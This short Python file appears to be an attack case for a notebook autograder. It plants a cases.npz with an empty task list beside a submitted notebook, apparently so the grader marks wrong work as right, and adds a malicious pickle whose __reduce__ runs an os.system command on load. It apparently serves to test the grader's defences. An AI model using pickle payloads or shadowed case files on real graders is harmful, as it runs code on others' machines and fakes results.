# ruff: noqa
# kind: shadowing files
# attack: cases.npz beside the notebook says that what is wrong is right, and holds a pickle that runs
# status: graded
import os
import pickle

import numpy as np
from course_lib.grading.notebook import write_notebook


class Runs:
    def __reduce__(self):
        return os.system, ("touch /tmp/shadow",)


def hand_in(folder, notebook):
    tasks = b'{"library": "", "modules": [], "problem_set": "mini", "tasks": []}'
    np.savez(folder / "cases.npz", tasks=np.frombuffer(tasks, np.uint8), x=np.array([Runs()], dtype=object))
    (folder / "cases.pkl").write_bytes(pickle.dumps(Runs()))
    write_notebook(notebook, folder / "mini.ipynb")
